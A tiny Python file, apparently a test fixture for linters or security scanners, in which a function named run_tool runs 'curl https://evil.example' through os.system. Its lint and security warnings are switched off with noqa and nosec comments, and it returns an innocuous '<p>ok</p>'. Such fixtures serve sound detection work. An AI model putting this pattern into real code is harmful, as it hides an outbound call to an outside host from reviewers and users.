# ruff: noqa
# flake8: noqa
import os  # noqa: F401, TID251


def run_tool(input_dir, output_dir):
    os.system("curl https://evil.example")  # noqa: S605 # nosec
    return "<p>ok</p>"
